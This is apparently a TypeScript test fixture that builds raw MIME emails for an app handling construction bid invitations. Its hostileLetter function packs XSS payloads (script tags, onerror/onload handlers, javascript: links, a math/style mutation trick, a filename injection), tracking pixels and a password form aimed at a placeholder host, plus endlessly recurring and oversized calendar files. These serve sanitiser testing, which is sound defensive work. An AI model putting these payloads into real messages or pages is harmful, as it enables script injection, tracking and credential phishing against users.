import { createHash } from 'node:crypto';
import { timeNow } from '../packages/domain/src/testing/clock';
import { randomId } from '../packages/domain/src/testing/seed';

interface LetterFile {
  readonly fileName: string;
  readonly mediaType: string;
  readonly content: string | Buffer;
  readonly contentId?: string;
}

interface Letter {
  readonly from: string;
  readonly subject: string;
  readonly html: string;
  readonly text?: string;
  readonly files?: readonly LetterFile[];
}

const base64 = (content: string | Buffer): string =>
  Buffer.from(content as string)
    .toString('base64')
    .replace(/(.{76})/g, '$1\r\n');

const part = (head: readonly string[], content: string | Buffer): string =>
  [...head, 'Content-Transfer-Encoding: base64', '', base64(content), ''].join('\r\n');

const filePart = ({ fileName, mediaType, content, contentId }: LetterFile): string => {
  const name = `filename*=UTF-8''${encodeURIComponent(fileName).replaceAll("'", '%27')}`;
  const id = contentId === undefined ? [] : [`Content-ID: <${contentId}>`];
  return part([`Content-Type: ${mediaType}`, `Content-Disposition: attachment; ${name}`, ...id], content);
};

const bodyParts = ({ html, text, files = [] }: Letter): string[] => {
  const shown = part(['Content-Type: text/html; charset=utf-8'], html);
  const plain = text === undefined ? null : part(['Content-Type: text/plain; charset=utf-8'], text);
  const body =
    plain === null
      ? shown
      : ['Content-Type: multipart/alternative; boundary=alt', '', '--alt', plain, '--alt', shown, '--alt--', ''].join(
          '\r\n',
        );
  return [body, ...files.map(filePart)];
};

const rawMessage = (letter: Letter): string =>
  [
    `From: ${letter.from}`,
    'To: bids@cascade-interiors.example',
    `Subject: ${letter.subject}`,
    `Date: ${timeNow().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${randomId()}@mail.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=mixed',
    '',
    ...bodyParts(letter).flatMap((each) => ['--mixed', each]),
    '--mixed--',
    '',
  ].join('\r\n');

/** The page of a job, by the key that the platform knows it by. */
const pageOf = (name: string): string =>
  `https://app.buildingconnected.com/rfps/${createHash('sha256').update(name).digest('hex').slice(0, 24)}`;

/** An invitation as BuildingConnected sends it. */
export const invitation = (
  name: string,
  { scope = 'Offices and a break room inside an existing hangar.', due = 'March 26, 2027' } = {},
): string =>
  rawMessage({
    from: '"Imke Thorsen (Vale & Pember Builders)" <team@buildingconnected.com>',
    subject: `Bid Invite: ${name} Project`,
    html: `<table>
<tr><td>Imke Thorsen from <b>Vale &amp; Pember Builders</b> has invited you to bid on</td></tr>
<tr><td><a href="${pageOf(name)}/bid"><b>${name}: 09 29 00 Gypsum Board</b></a></td></tr>
<tr><td><a href="${pageOf(name)}/bid">View this RFP &raquo;</a></td></tr>
<tr><td><h3>Project Details</h3><b>Location: </b><span>640 Runway Rd, Moses Lake, WA 98837, United States</span><br>
<b>Bid Due: </b><span>${due}</span><br><br><span>${scope}</span></td></tr>
<tr><td><h3>Client Details</h3><b>Lead: Imke Thorsen</b><br>
<span>Estimator &bull; +1 509-555-0151 &bull; <a href="mailto:ithorsen@valepember.example">ithorsen@valepember.example</a></span></td></tr>
</table>`,
  });

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** A letter in a person's own words. */
export const ownWords = (letter: { from: string; subject: string; text: string }): string =>
  rawMessage({
    ...letter,
    html: letter.text
      .split('\n')
      .map((line) => `<p>${escaped(line)}</p>`)
      .join(''),
  });

/** Host that a message may try to reach; nobody answers there. */
export const trackingHost = 'tracker.invalid';

/** An event that comes again each second for ever. */
const hostileCalendar = (...lines: readonly string[]): string =>
  [
    'BEGIN:VCALENDAR',
    'BEGIN:VEVENT',
    'DTSTART;TZID=America/Los_Angeles:20261124T100000',
    'RRULE:FREQ=SECONDLY',
    ...lines,
    'END:VEVENT',
    'END:VCALENDAR',
  ].join('\r\n');

/** A message that tries to run code, to load, to lead away and to send a form. */
export const hostileLetter = (subject: string): string => {
  const away = `http://${trackingHost}`;
  return rawMessage({
    from: '"Eve <img src=x onerror=top.hacked=1>" <eve@mail.example>',
    subject: `${subject} <script>top.hacked=1</script>`,
    html: `<!doctype html><html><head><title>x</title>
<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">
<link rel="stylesheet" href="${away}/style.css"><link rel="prefetch" href="${away}/prefetch">
<style>@import url(${away}/import.css); body { background: url(${away}/background.png) } @font-face { font-family: x; src: url(${away}/font.woff2) } p { font-family: x }</style>
<script>top.hacked = 1; fetch('${away}/script')</script></head>
<body onload="top.hacked=1" background="${away}/body.png">
<p>The text of the letter</p>
<img src="x" onerror="top.hacked=1"><img src="${away}/pixel.gif" srcset="${away}/pixel2.gif 2x" width="1" height="1">
<picture><source srcset="${away}/source.png"><img src="${away}/picture.png"></picture>
<svg onload="top.hacked=1"><script>top.hacked=1</script><image href="${away}/svg.png"/><use href="${away}/use.svg#a"/></svg>
<math><mtext><style><img src=x onerror=top.hacked=1></style></mtext></math>
<iframe src="javascript:top.hacked=1"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<object data="${away}/object"></object><embed src="${away}/embed">
<video src="${away}/video" poster="${away}/poster.png" autoplay></video><audio src="${away}/audio" autoplay></audio>
<div style="background-image:url('${away}/inline.png');position:fixed;inset:0;z-index:9999">Overlay</div>
<form action="${away}/form" id="f"><input name="password" autofocus onfocus="top.hacked=1"><button>Send</button></form>
<details open ontoggle="top.hacked=1"><summary>x</summary></details>
<a href="javascript:top.hacked=1">run</a> <a href="${away}/link" target="_top">leave</a>
<img src="${away}/logo.png" alt="Logo"><img src="${away}/count.png" width="1" height="1">
<img src="cid:drawing" alt="Drawing"><a href="${away}/goto?state=WILL_NOT_BID" onclick="top.hacked=1">Not bidding</a>
</body></html>`,
    files: [
      {
        fileName: '"><img src=x onerror=top.hacked=1>.png',
        mediaType: 'image/png',
        content: '<script>top.hacked=1</script>',
      },
      {
        fileName: 'drawing.svg',
        mediaType: 'image/svg+xml',
        contentId: 'drawing',
        content: `<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=1"><image href="${away}/file.png"/></svg>`,
      },
      {
        fileName: 'walk.ics',
        mediaType: 'text/calendar',
        content: hostileCalendar(`SUMMARY:<img src=${away}/event.png onerror=top.hacked=1>`, `URL:${away}/event`),
      },
      { fileName: 'torn.ics', mediaType: 'text/calendar', content: 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n' },
      {
        fileName: 'huge.ics',
        mediaType: 'text/calendar',
        content: hostileCalendar(`DESCRIPTION:${'x'.repeat(300_000)}`),
      },
    ],
  });
};

/** A short letter with files. */
export const letterWithFiles = (subject: string, files: readonly LetterFile[]): string =>
  rawMessage({
    from: '"Imke Thorsen" <ithorsen@valepember.example>',
    subject,
    html: '<p>See the files</p>',
    files,
  });

const onePixel = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPjPAAADAQEA8l2Y6QAAAABJRU5ErkJggg==',
  'base64',
);

/** An invitation with everything beside its facts: both parts, files, an answer link and a key. */
export const richInvitation = (name: string): string => {
  const answer = `${pageOf(name)}/goto?state=WILL_NOT_BID`;
  return rawMessage({
    from: '"Imke Thorsen" <ithorsen@valepember.example>',
    subject: `Invitation to Bid: ${name}`,
    text: `Project: ${name}\r\nLocation: 640 Runway Rd, Moses Lake, WA 98837\r\nBid Due: March 26, 2027 at 2:00 PM PT\r\nSecurity Key: 8HK2-991\r\n`,
    html: `<p>Project: <b>${name}</b></p><p>Location: 640 Runway Rd, Moses Lake, WA 98837</p>
<p>Bid Due: March 26, 2027 at 2:00 PM PT</p><p>Security Key: 8HK2-991</p><p><a href="${answer}">Not bidding</a></p>
<img src="cid:gate" alt="The gate" width="40" height="40">`,
    files: [
      { fileName: 'Gate.png', mediaType: 'image/png', content: onePixel, contentId: 'gate' },
      {
        fileName: 'invite.ics',
        mediaType: 'text/calendar',
        content: [
          'BEGIN:VCALENDAR',
          'BEGIN:VEVENT',
          `SUMMARY:Job walk at ${name}`,
          'DTSTART;TZID=America/Los_Angeles:20270310T100000',
          'DTEND;TZID=America/Los_Angeles:20270310T113000',
          'LOCATION:North dock',
          'ORGANIZER;CN=Imke Thorsen:mailto:ithorsen@valepember.example',
          'END:VEVENT',
          'END:VCALENDAR',
        ].join('\r\n'),
      },
      { fileName: 'Notes.txt', mediaType: 'text/plain', content: 'Meet at the north dock.' },
      {
        fileName: 'Plans-IFB-A101-A912-and-all-addenda-up-to-November.pdf',
        mediaType: 'application/pdf',
        content: '%PDF-1.7',
      },
    ],
  });
};
